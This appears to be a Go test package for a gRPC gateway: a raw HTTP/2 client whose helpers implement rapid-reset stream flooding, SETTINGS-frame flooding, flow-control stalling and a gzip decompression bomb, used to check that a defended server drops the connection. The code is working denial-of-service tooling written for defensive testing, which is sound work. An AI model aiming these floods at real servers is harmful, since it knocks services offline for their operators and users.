// Package h2attack is a raw HTTP/2 client over TLS for attack tests and the
// flood harness: it writes exactly the frames it is told to (no flow
// control, no limits of its own), reads what the server answers in the
// background, and reports how each stream and the connection ended. It is
// test tooling for loopback targets, never used by the gateway itself.
package h2attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"strconv"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Conn is one attacker connection.
type Conn struct {
	conn net.Conn
	// Authority is the :authority of the requests it opens.
	Authority string

	wmu    sync.Mutex // writes: framer, encoder
	fr     *http2.Framer
	enc    *hpack.Encoder
	encBuf bytes.Buffer
	nextID uint32

	// WindowUpdates makes the reader return flow-control credit for the
	// DATA it receives, as a well-behaved client does. Off: the server's
	// responses stall once the initial window is used.
	WindowUpdates bool

	mu       sync.Mutex
	outcomes map[uint32]Outcome
	notify   chan struct{} // closed and replaced on every outcome
	goAway   *http2.GoAwayFrame
	readErr  error
	closed   chan struct{}
	received atomic.Int64 // DATA payload bytes received
}

// Outcome is how a stream ended: a gRPC status in its trailers, or a
// RST_STREAM from the server.
type Outcome struct {
	// GRPCStatus is the grpc-status trailer, -1 when there was none.
	GRPCStatus int
	// Message is the grpc-message trailer.
	Message string
	// Reset is set when the server reset the stream.
	Reset bool
	// ResetCode is the RST_STREAM error code.
	ResetCode http2.ErrCode
}

// Dial opens a TLS connection offering h2 (or, with a nil conf, a plain
// TCP connection speaking HTTP/2 with prior knowledge, as an admin listener
// without TLS does), sends the client preface and a SETTINGS frame with
// settings, and starts reading in the background.
func Dial(ctx context.Context, addr string, conf *tls.Config, settings ...http2.Setting) (*Conn, error) {
	return DialFrom(ctx, nil, addr, conf, settings...)
}

// DialFrom is Dial from a given local address (nil: any).
func DialFrom(ctx context.Context, local net.Addr, addr string, conf *tls.Config, settings ...http2.Setting) (*Conn, error) {
	nd := &net.Dialer{LocalAddr: local}
	var raw net.Conn
	var err error
	if conf == nil {
		raw, err = nd.DialContext(ctx, "tcp", addr)
	} else {
		conf = conf.Clone()
		conf.NextProtos = []string{"h2"}
		if conf.ServerName == "" {
			conf.ServerName = "localhost"
		}
		raw, err = (&tls.Dialer{NetDialer: nd, Config: conf}).DialContext(ctx, "tcp", addr)
	}
	if err != nil {
		return nil, err
	}
	c := &Conn{conn: raw, Authority: addr, nextID: 1, outcomes: map[uint32]Outcome{},
		notify: make(chan struct{}), closed: make(chan struct{})}
	c.fr = http2.NewFramer(raw, raw)
	c.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	c.fr.MaxHeaderListSize = 1 << 20
	c.enc = hpack.NewEncoder(&c.encBuf)
	if _, err := raw.Write([]byte(http2.ClientPreface)); err != nil {
		raw.Close()
		return nil, err
	}
	if err := c.fr.WriteSettings(settings...); err != nil {
		raw.Close()
		return nil, err
	}
	go c.read()
	return c, nil
}

// Close closes the connection.
func (c *Conn) Close() error { return c.conn.Close() }

// Closed is closed when the server has closed the connection (or reading
// failed).
func (c *Conn) Closed() <-chan struct{} { return c.closed }

// Err returns why reading ended, once Closed is closed.
func (c *Conn) Err() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.readErr
}

// GoAway returns the GOAWAY frame the server sent, or nil.
func (c *Conn) GoAway() *http2.GoAwayFrame {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.goAway
}

// Received returns how many DATA payload bytes the server sent.
func (c *Conn) Received() int64 { return c.received.Load() }

// Headers opens a new gRPC call to method (e.g.
// "/msg.gateway.v1.GatewayService/Forward") and returns its stream id.
// extra adds header fields such as grpc-encoding.
func (c *Conn) Headers(method string, endStream bool, extra ...hpack.HeaderField) (uint32, error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	id := c.nextID
	c.nextID += 2
	c.encBuf.Reset()
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: c.scheme()},
		{Name: ":path", Value: method},
		{Name: ":authority", Value: c.Authority},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}
	for _, f := range append(fields, extra...) {
		if err := c.enc.WriteField(f); err != nil {
			return 0, err
		}
	}
	err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.encBuf.Bytes(),
		EndStream: endStream, EndHeaders: true})
	return id, err
}

// Message sends one gRPC message (the 5-byte prefix, then msg) in DATA
// frames of at most 16 KiB.
func (c *Conn) Message(id uint32, compressed bool, msg []byte, endStream bool) error {
	prefix := make([]byte, 5, 5+len(msg))
	if compressed {
		prefix[0] = 1
	}
	binary.BigEndian.PutUint32(prefix[1:], uint32(len(msg)))
	return c.Data(id, append(prefix, msg...), endStream)
}

func (c *Conn) scheme() string {
	if _, ok := c.conn.(*tls.Conn); ok {
		return "https"
	}
	return "http"
}

// Data sends payload on stream id in DATA frames of at most 16 KiB.
func (c *Conn) Data(id uint32, payload []byte, endStream bool) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	for {
		n := min(len(payload), 16<<10)
		last := n == len(payload)
		if err := c.fr.WriteData(id, last && endStream, payload[:n]); err != nil {
			return err
		}
		payload = payload[n:]
		if last {
			return nil
		}
	}
}

// Reset sends RST_STREAM CANCEL for stream id.
func (c *Conn) Reset(id uint32) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

// Settings sends a SETTINGS frame.
func (c *Conn) Settings(settings ...http2.Setting) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return c.fr.WriteSettings(settings...)
}

// Outcome returns how stream id ended, if it has.
func (c *Conn) Outcome(id uint32) (Outcome, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	o, ok := c.outcomes[id]
	return o, ok
}

// Wait blocks until stream id has ended, the connection closed or ctx is
// done.
func (c *Conn) Wait(ctx context.Context, id uint32) (Outcome, error) {
	for {
		c.mu.Lock()
		o, ok := c.outcomes[id]
		ch := c.notify
		c.mu.Unlock()
		if ok {
			return o, nil
		}
		select {
		case <-ch:
		case <-c.closed:
			if o, ok := c.Outcome(id); ok {
				return o, nil
			}
			return Outcome{}, fmt.Errorf("stream %d: connection closed: %w", id, c.Err())
		case <-ctx.Done():
			return Outcome{}, fmt.Errorf("stream %d: %w", id, ctx.Err())
		}
	}
}

// Ended returns how many streams have ended.
func (c *Conn) Ended() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.outcomes)
}

func (c *Conn) end(id uint32, o Outcome) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, ok := c.outcomes[id]; ok {
		return
	}
	c.outcomes[id] = o
	close(c.notify)
	c.notify = make(chan struct{})
}

func (c *Conn) read() {
	defer close(c.closed)
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			c.mu.Lock()
			c.readErr = err
			c.mu.Unlock()
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				c.wmu.Lock()
				_ = c.fr.WriteSettingsAck()
				c.wmu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				c.wmu.Lock()
				_ = c.fr.WritePing(true, f.Data)
				c.wmu.Unlock()
			}
		case *http2.MetaHeadersFrame:
			if !f.StreamEnded() {
				continue
			}
			o := Outcome{GRPCStatus: -1}
			if v := f.PseudoValue("status"); v != "" && v != "200" {
				o.Message = "HTTP status " + v
			}
			for _, hf := range f.RegularFields() {
				switch hf.Name {
				case "grpc-status":
					o.GRPCStatus, _ = strconv.Atoi(hf.Value)
				case "grpc-message":
					o.Message = hf.Value
				}
			}
			c.end(f.StreamID, o)
		case *http2.DataFrame:
			n := len(f.Data())
			c.received.Add(int64(n))
			if c.WindowUpdates && n > 0 {
				c.wmu.Lock()
				_ = c.fr.WriteWindowUpdate(0, uint32(n))
				_ = c.fr.WriteWindowUpdate(f.StreamID, uint32(n))
				c.wmu.Unlock()
			}
		case *http2.RSTStreamFrame:
			c.end(f.StreamID, Outcome{GRPCStatus: -1, Reset: true, ResetCode: f.ErrCode})
		case *http2.GoAwayFrame:
			c.mu.Lock()
			c.goAway = f
			c.mu.Unlock()
		}
	}
}

// ErrClosed is returned by the flood loops when the server closed the
// connection, which is what a defended server does.
var ErrClosed = errors.New("h2attack: the server closed the connection")

// GzipBomb returns a gzip stream that inflates to prefix followed by n zero
// bytes. 16 MiB of zeros compress to about 16 KiB.
func GzipBomb(prefix []byte, n int) []byte {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	_, _ = w.Write(prefix)
	zeros := make([]byte, 64<<10)
	for n > 0 {
		k := min(n, len(zeros))
		_, _ = w.Write(zeros[:k])
		n -= k
	}
	_ = w.Close()
	return b.Bytes()
}

// SettingsFlood sends up to max non-ACK SETTINGS frames, stopping early
// when the server closes the connection. It returns how many it sent.
func (c *Conn) SettingsFlood(max int) (int, error) {
	for i := range max {
		select {
		case <-c.closed:
			return i, ErrClosed
		default:
		}
		if err := c.Settings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}); err != nil {
			return i, ErrClosed
		}
	}
	return max, nil
}

// RapidReset opens up to max calls to method and resets each at once
// (HEADERS then RST_STREAM), stopping early when the server closes the
// connection. It returns how many it reset.
func (c *Conn) RapidReset(method string, max int) (int, error) {
	for i := range max {
		select {
		case <-c.closed:
			return i, ErrClosed
		default:
		}
		id, err := c.Headers(method, false)
		if err != nil {
			return i, ErrClosed
		}
		if err := c.Reset(id); err != nil {
			return i, ErrClosed
		}
	}
	return max, nil
}
